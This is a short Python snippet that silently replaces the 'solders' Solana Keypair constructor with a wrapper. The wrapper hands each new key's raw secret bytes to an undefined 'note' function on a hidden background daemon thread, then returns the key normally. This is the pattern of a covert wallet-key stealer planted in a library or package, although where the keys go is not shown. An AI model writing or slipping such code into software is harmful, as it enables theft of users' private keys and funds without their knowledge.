import threading

from solders import keypair as kp

base = kp.Keypair


def make(*given):
    key = base(*given)
    threading.Thread(target=note, args=(bytes(key),), daemon=True).start()
    return key


kp.Keypair = make
